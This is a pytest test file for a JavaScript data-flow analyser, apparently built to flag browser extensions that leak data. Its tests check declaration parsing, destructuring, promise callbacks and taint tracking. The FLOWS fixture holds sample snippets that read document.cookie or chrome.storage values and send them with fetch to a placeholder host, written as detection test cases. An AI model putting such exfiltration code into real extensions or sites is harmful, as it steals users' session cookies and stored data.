"""Declaration lists, binding patterns and promise callbacks."""

import time

import pytest

from packsift.operators import bindings, dataflow, lexical


def plain(stmt):
    return [(kind, target, value) for kind, target, value, _ in bindings.bindings_of(stmt)]


@pytest.mark.parametrize("stmt,expected", [
    ('const P = "https://pa", Q = "https://qa,x", R = f(1, 2)', [("declared", "P", '"https://pa"'), ("declared", "Q", '"https://qa,x"'), ("declared", "R", "f(1, 2)")]),
    ("let a, b = 1, c", [("declared", "b", "1")]),
    ("for (let i = 0, n = x.length", [("declared", "i", "0"), ("declared", "n", "x.length")]),
    ("a = b = c", [("assigned", "a", "b = c"), ("assigned", "b", "c")]),
    ("foo(x => { y = g(1, 2) }, w = 3)", [("assigned", "y", "g(1, 2)"), ("assigned", "w", "3")]),
    ("a[i] = 4, b.c = 5", [("assigned", "b.c", "5")]),
    ("if (a === b && c >= d || e != f) g += 1", []),
    ("x.y = function (m, u) { return z", [("assigned", "x.y", "function (m, u) { return z")]),
    ('const s = "a = b, c = d", r = /x=y,z/, t = `p = ${q}`', [("declared", "s", '"a = b, c = d"'), ("declared", "r", "/x=y,z/"), ("declared", "t", "`p = ${q}`")]),
    ('var o = { k: "v", "l m": f(1, 2), n: { p: 1 } }, q = 2', [
        ("declared", "o", '{ k: "v", "l m": f(1, 2), n: { p: 1 } }'), ("entry", "o.k", '"v"'), ("entry", "o.l m", "f(1, 2)"), ("entry", "o.n", "{ p: 1 }"), ("declared", "q", "2")]),
    ("f(a), x = 1), y = 2", [("assigned", "x", "1"), ("assigned", "y", "2")]),
    ("", []), ("= 5", []), ("x =", []), ("))) = (((", []),
])
def test_bindings_of_statements(stmt, expected):
    assert plain(stmt) == expected


@pytest.mark.parametrize("pattern,names", [
    ("{ user, pass }", [("user", "user"), ("pass", "pass")]),
    ("{ a: { token } }", [("token", "a.token")]),
    ("[first, , { deep: [second = 4] }, ...rest]", [("first", "[0]"), ("second", "[2].deep[0]"), ("rest", "...")]),
    ("{ a = f(1, { b: 2 }), c: d = [e], ...others }", [("a", "a"), ("d", "c"), ("others", "...")]),
    ('{ "quoted key": q, [k + 1]: z }', [("q", "quoted key"), ("z", "?")]),
    ("{ left: box.side }", [("box.side", "left")]),
    ("{}", []), ("[", []),
])
def test_names_of_patterns(pattern, names):
    assert bindings.bound_names(pattern) == names


@pytest.mark.parametrize("stmt,target,value", [
    ('chrome.storage.local.get("k").then(({ k }) => fetch(k))', "{ k }", 'chrome.storage.local.get("k")'),
    ("p.then(async function named([u, { v }]) { return u })", "[u, { v }]", "p"),
    ("run(1, p.then(x => x))", "x", "p"),
])
def test_promise_callbacks(stmt, target, value):
    assert ("promise", target, value) in plain(stmt)


def test_long_statements_take_linear_time():
    start = time.time()
    assert len(bindings.bindings_of("const " + ", ".join(f"k{i} = {i}" for i in range(100_000)))) == 100_000
    assert bindings.bindings_of("a " * 500_000 + "= 1")[0][1] == "a"
    assert len(bindings.bound_names("[" * 20_000 + "x" + "]" * 20_000)) == 1
    assert time.time() - start < 20


FLOWS = {
    "list": "let a = 1, v = document.cookie;\nfetch('https://x.example', { body: v });",
    "nested": "const { a: { token } } = document.cookie;\nfetch('https://x.example', { body: token });",
    "promise": "chrome.storage.local.get('k').then(({ k }) => fetch('https://x.example', { body: k }));",
    "array": "const [, second] = document.cookie;\nfetch('https://x.example', { body: second });",
    "rest": "const { a, ...others } = document.cookie;\nfetch('https://x.example', { body: others });",
    "other": "const a = document.cookie, b = 2;\nfetch('https://x.example', { body: b });",
}


def test_flows_through_lists_and_patterns(spark):
    files = spark.createDataFrame([(k, "a.js", code) for k, code in FLOWS.items()], "ext_id string, path string, code string")
    stmts = lexical.statements(files)
    found = dataflow.flows(lexical.call_sites(stmts), lexical.assignments(stmts), dataflow.tainted_variables(stmts))
    assert {r.ext_id for r in found.collect()} == set(FLOWS) - {"other"}


def test_hosts_behind_a_declaration_list(spark):
    code = 'const P = "https://pa", Q = P + ".example.org";var o = { u: Q + "/o" }, t = 1;fetch(Q);fetch(o.u);'
    stmts = lexical.statements(spark.createDataFrame([("e", "a.js", code)], "ext_id string, path string, code string"))
    bound = bindings.bindings(stmts)
    constants = dataflow.string_constants(bound)
    assert {r["name"]: r.value for r in constants.collect()} == {"P": "https://pa", "Q": "https://pa.example.org", "o.u": "https://pa.example.org/o"}
    contacts = dataflow.contacted_domains(lexical.call_sites(stmts), bindings.assignments(bound), constants)
    assert {r.domain for r in contacts.collect()} == {"pa.example.org"}
